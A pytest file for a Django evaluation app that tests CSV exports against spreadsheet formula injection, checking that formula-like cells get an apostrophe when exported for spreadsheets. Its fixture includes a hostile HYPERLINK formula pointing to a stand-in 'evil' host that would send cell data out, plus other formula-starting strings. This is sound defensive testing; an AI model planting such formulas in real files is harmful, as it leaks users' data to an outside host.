"""CSV files and spreadsheets: what one would run as a formula, and what stays as it is."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from evaluation.analyses import ANALYSES
from evaluation.cache import part_files
from evaluation.pipeline import evaluate
from evaluation.publishing import exports
from evaluation.study.data import load
from judging.models import Judgment, PooledDocument, Study, Topic, Worker
from tests.database import there_for_all
from tests.factory import make_study
from tests.factory.completed import complete
from tests.factory.runs import add_runs
from web.formats import FORMULA_STARTS, csv_lines, harmless

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil/"&A1)'
HOSTILE = ("=1+1", "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1")


@pytest.fixture(scope="module")
def study(django_db_setup: None, django_db_blocker: Any) -> Iterator[Study]:
    """Topics, documents, runs, workers and reasons that a spreadsheet would run."""
    with there_for_all(django_db_blocker):
        study = make_study(topics=2, redundancy=2)
        for number in range(3):
            complete(study, f"worker-{number}")
        Judgment.objects.update(justification=FORMULA, score_text="+1")
        for model, field in (
            (Topic, "query_id"),
            (PooledDocument, "doc_id"),
            (Worker, "pseudonym"),
        ):
            for record in model.objects.all():  # type: ignore[attr-defined]
                setattr(record, field, f"={getattr(record, field)}")
                record.save()
        add_runs(study, {"@run": {"=401": [("=D401-003", 1.0), ("=D401-001", 0.5)]}})
        evaluate(study)
        yield study


@pytest.fixture
def staff(db: None) -> Client:
    client = Client()
    client.force_login(get_user_model().objects.create_user("rosa", is_superuser=True))
    return client


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def would_run(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula; a number is none."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_STARTS)
    return False


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", [-1, -1.5, "a=1", "", None, True, "1-2", "'=1"])
def test_numbers_and_other_texts_stay_as_they_are(value: object) -> None:
    assert harmless(value) is value


def test_what_people_write_freely_is_harmless_in_every_file_and_numbers_in_none() -> None:
    made = "".join(csv_lines(("doc_id", "note", "gain"), [("=d", "=1", -1.5)]))
    assert made == "doc_id,note,gain\n=d,'=1,-1.5\n"
    made = "".join(csv_lines(("doc_id", "note"), [("=d", "=1")], for_spreadsheet=True))
    assert made == "doc_id,note\n'=d,'=1\n"


@pytest.mark.parametrize("table", exports.EXPORTS)
def test_files_for_spreadsheets_hold_nothing_to_run_and_others_are_exact(
    study: Study, staff: Client, table: str
) -> None:
    exact = cells("".join(exports.lines(study, table, "csv")))
    guarded = cells("".join(exports.lines(study, table, "csv", for_spreadsheet=True)))
    assert exact
    raw = [(name, cell) for row in exact for name, cell in row.items() if would_run(cell)]
    assert raw, "the study is not hostile"
    assert "justification" not in dict(raw)
    assert not any(would_run(cell) for row in guarded for cell in row.values())
    for before, after in zip(exact, guarded, strict=True):
        assert after == {
            name: f"'{cell}" if would_run(cell) or cell == "+1" else cell
            for name, cell in before.items()
        }
    address = f"/studies/{study.slug}/{table}.csv"
    for query, wanted in (("", exact), ("?for=spreadsheet", guarded)):
        body = b"".join(staff.get(address + query))  # type: ignore[call-overload]
        assert cells(body.decode()) == wanted


def test_reasons_are_harmless_in_csv_and_exact_in_json_lines(study: Study) -> None:
    row, *_ = cells("".join(exports.lines(study, "judgments", "csv")))
    assert row["justification"] == f"'{FORMULA}"
    assert row["doc_id"].startswith("=")
    line, *_ = exports.lines(study, "judgments", "jsonl")
    assert f'"justification": "{FORMULA}"'.replace('("', '(\\"').replace('/"&', '/\\"&') in line


@pytest.mark.parametrize("name", ["spread", "workers", "topics", "rankings"])
def test_tables_of_analyses(study: Study, name: str) -> None:
    result = ANALYSES[name].of(load(study, ""))
    for part in result["parts"]:
        made = part_files.written(part, "csv", "people", for_spreadsheet=True).decode()
        assert not any(would_run(cell) for row in cells(made) for cell in row.values())


def test_rest_writes_qrels_for_spreadsheets_if_asked(study: Study, staff: Client) -> None:
    address = f"/api/v1/studies/{study.slug}/qrels/?file_format=csv"
    for query, first in (("", "=401"), ("&for=spreadsheet", "'=401")):
        body = b"".join(staff.get(address + query)).decode()  # type: ignore[call-overload]
        assert cells(body)[0]["query_id"] == first


def test_every_link_to_a_csv_file_is_for_spreadsheets(study: Study, staff: Client) -> None:
    pages = [
        staff.get(f"/studies/{study.slug}/{place}").content.decode()
        for place in ("", "systems/", "topics/", "method/", "share/files/")
    ]
    links = [word for page in pages for word in page.split('"') if ".csv" in word]
    assert len(links) >= 5
    assert all("for=spreadsheet" in link for link in links)
